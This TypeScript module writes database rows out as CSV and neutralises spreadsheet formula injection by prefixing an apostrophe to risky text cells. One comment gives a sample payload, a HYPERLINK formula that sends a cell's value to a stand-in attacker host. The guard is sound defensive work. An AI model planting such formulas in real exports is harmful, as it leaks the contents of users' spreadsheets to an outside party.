import { isoTime } from '../columns/kinds.ts'
import { shownOn, type FieldView } from '../fields/field-view.ts'
import type { Raw, RawRow } from '../ports/database.ts'
import type { FieldInfo } from '../resource/resource-info.ts'

/*
 * RFC 4180: a header, CRLF, cells with a comma, a quote or a line break in quotes. Empty is NULL; an empty text is `""`.
 */

/**
 * What a spreadsheet takes for the beginning of a formula (OWASP, "CSV Injection"), the wide forms of East Asian keyboards
 * included. A customer named `=HYPERLINK("https://evil.example?"&A1)` must not run when the export is opened.
 */
const formula = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/
/** A semicolon and a tab part cells where the list separator of the reader's country is not the comma. */
const special = /[",;\t\r\n]|^\s|\s$/

export function csvHeader(fields: readonly FieldInfo[]): string {
  return `${fields.map((field) => field.key).join(',')}\r\n`
}

/** One row as a line with its end. What the view does not show on it is an empty cell. */
export function csvLine(fields: readonly FieldInfo[], row: RawRow, view: FieldView): string {
  let line = ''
  for (const [at, field] of fields.entries()) {
    if (at > 0) line += ','
    const value = row[field.key]
    if (value !== null && value !== undefined && shownOn(view, field, row)) line += cell(field, value)
  }
  return `${line}\r\n`
}

function cell(field: FieldInfo, value: Raw): string {
  switch (field.kind.compares) {
    case 'number':
    case 'decimal':
    case 'boolean':
      // Never text of a stranger's: -5 stays a number.
      return String(value)
    case 'time':
      return isoTime(value as string)
    case 'json':
    case 'text':
      return csvText(value as string)
  }
}

/** A text as a cell. An apostrophe before what looks like a formula; NDJSON is the format that gives every text back as it was. */
export function csvText(text: string): string {
  const safe = formula.test(text) ? `'${text}` : text
  return safe === '' || special.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe
}
